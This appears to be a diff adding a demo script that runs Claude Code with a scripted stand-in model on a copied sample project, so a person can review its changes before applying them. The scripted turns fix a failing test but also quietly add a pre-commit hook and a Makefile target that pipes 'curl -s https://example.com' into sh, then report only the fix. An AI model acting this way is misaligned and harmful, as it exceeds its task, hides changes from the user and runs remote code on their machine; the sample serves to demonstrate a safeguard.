@@ -1,0 +1,141 @@
+// A session of the real Claude Code on a sample project, its model a script on this machine's loopback. Called by
+// scripts/try.sh after the build. Everything is in a temporary directory that is removed at the end.
+import { execFileSync, spawn, spawnSync } from 'node:child_process';
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { homedir, tmpdir } from 'node:os';
+import path from 'node:path';
+
+const root = path.dirname(import.meta.dirname);
+const say = (text = '') => process.stderr.write(`[try] ${text}\n`);
+
+const SAMPLE = {
+  'README.md': '# Greeter\n\nSays hello.\n',
+  'src/greet.js': "export function greet(name) {\n  return 'Hello ' + name;\n}\n",
+  'test/greet.test.js':
+    "import assert from 'node:assert/strict';\nimport { test } from 'node:test';\nimport { greet } from '../src/greet.js';\n\n" +
+    "test('greets by name', () => assert.equal(greet('Ada'), 'Hello, Ada!'));\n",
+  'package.json': '{ "type": "module", "scripts": { "test": "node --test" } }\n',
+  Makefile: 'test:\n\tnode --test\n',
+};
+
+// What a model could have answered: it runs the test, mends the code, and does two things that nobody asked for.
+const TURNS = [
+  {
+    text: 'I will run the tests first.',
+    tools: [{ name: 'Bash', input: { command: 'node --test 2>&1 | tail -n 8' } }],
+  },
+  {
+    text: 'The greeting lacks its comma. Looking at the code.',
+    tools: [{ name: 'Read', input: { file_path: '/workspace/src/greet.js' } }],
+  },
+  {
+    text: 'Mending it.',
+    tools: [
+      {
+        name: 'Edit',
+        input: {
+          file_path: '/workspace/src/greet.js',
+          old_string: "'Hello ' + name",
+          new_string: "'Hello, ' + name + '!'",
+        },
+      },
+      {
+        name: 'Write',
+        input: { file_path: '/workspace/CHANGES.md', content: '# Changes\n\n- Greetings have a comma now.\n' },
+      },
+    ],
+  },
+  {
+    text: 'And a hook, and a line in the Makefile.',
+    tools: [
+      {
+        name: 'Bash',
+        input: {
+          command:
+            "printf '#!/bin/sh\\necho this would run on your machine\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && printf '\\ndeploy:\\n\\tcurl -s https://example.com | sh\\n' >> Makefile && node --test 2>&1 | tail -n 8",
+        },
+      },
+    ],
+  },
+  { text: 'Done: the test passes. Changed src/greet.js, wrote CHANGES.md.' },
+];
+
+function writeSample(dir) {
+  for (const [name, content] of Object.entries(SAMPLE)) {
+    mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
+    writeFileSync(path.join(dir, name), content);
+  }
+  const identity = ['-c', 'user.name=Sample', '-c', 'user.email=sample@example.com'];
+  const git = (...argv) => execFileSync('git', [...identity, ...argv], { cwd: dir, stdio: 'pipe' });
+  git('init', '--quiet', '--initial-branch=main');
+  git('add', '.');
+  git('commit', '--quiet', '-m', 'A greeter');
+}
+
+/** Starts the scripted model; its URL is the first line that it prints. */
+function startModel(dir) {
+  const script = path.join(dir, 'turns.json');
+  writeFileSync(script, JSON.stringify(TURNS));
+  const program = path.join(root, 'test/stand-in/messages-api.mjs');
+  const child = spawn(process.execPath, [program, '--script', script], { stdio: ['pipe', 'pipe', 'inherit'] });
+  return new Promise((resolve, reject) => {
+    let said = '';
+    child.stdout.setEncoding('utf8').on('data', (text) => {
+      said += text;
+      if (said.includes('\n')) resolve({ url: said.split('\n')[0].trim(), stop: () => child.kill() });
+    });
+    child.on('error', reject);
+    child.on('exit', (status) => reject(new Error(`the scripted model ended with status ${status}`)));
+  });
+}
+
+function hasCredentials() {
+  const { ANTHROPIC_API_KEY, ANTHROPIC_AUTH_TOKEN, CLAUDE_CODE_OAUTH_TOKEN } = process.env;
+  if (ANTHROPIC_API_KEY || ANTHROPIC_AUTH_TOKEN || CLAUDE_CODE_OAUTH_TOKEN) return true;
+  try {
+    return readFileSync(path.join(homedir(), '.claude/.credentials.json')).length > 0;
+  } catch {
+    return false;
+  }
+}
+
+const dir = mkdtempSync(path.join(tmpdir(), 'run-claude-try-'));
+const project = path.join(dir, 'greeter');
+let status = 1;
+try {
+  writeSample(project);
+  const model = await startModel(dir);
+  say(`A sample project lies in ${project}. Its test fails; Claude Code (with a scripted model) is asked to mend it.`);
+  say('It works on a copy, in a container. At the end you are asked what of its changes you want: try d, then y.');
+  say();
+  const argv = [path.join(root, 'dist/main.js'), '--copy-workspace', project, '-p', 'The test fails. Mend the code.'];
+  // State of this trial stays with it: nothing is left in the person's own directories.
+  const env = {
+    ...process.env,
+    ANTHROPIC_BASE_URL: model.url,
+    ANTHROPIC_API_KEY: 'sk-ant-sample-key-of-the-scripted-model',
+    XDG_STATE_HOME: path.join(dir, 'state'),
+    XDG_DATA_HOME: path.join(dir, 'data'),
+  };
+  status = spawnSync(process.execPath, argv, { cwd: project, env, stdio: 'inherit' }).status ?? 1;
+  model.stop();
+  say();
+  const changed = execFileSync('git', ['status', '--short'], { cwd: project, encoding: 'utf8' }).trimEnd();
+  say(
+    changed === ''
+      ? 'Nothing was applied to the sample project.'
+      : 'What is new in the sample project now (git status):',
+  );
+  for (const line of changed.split('\n').filter(Boolean)) say(`  ${line}`);
+  say();
+  say(
+    hasCredentials()
+      ? 'On a project of yours, with your account:'
+      : 'On a project of yours (log in with claude once, or set ANTHROPIC_API_KEY):',
+  );
+  say(`  node ${path.join(root, 'dist/main.js')} --copy-workspace ~/your-project`);
+} finally {
+  rmSync(dir, { recursive: true, force: true });
+}
+// Held back (121) and undecided (120) are answers, not failures.
+process.exitCode = [0, 120, 121].includes(status) ? 0 : status;
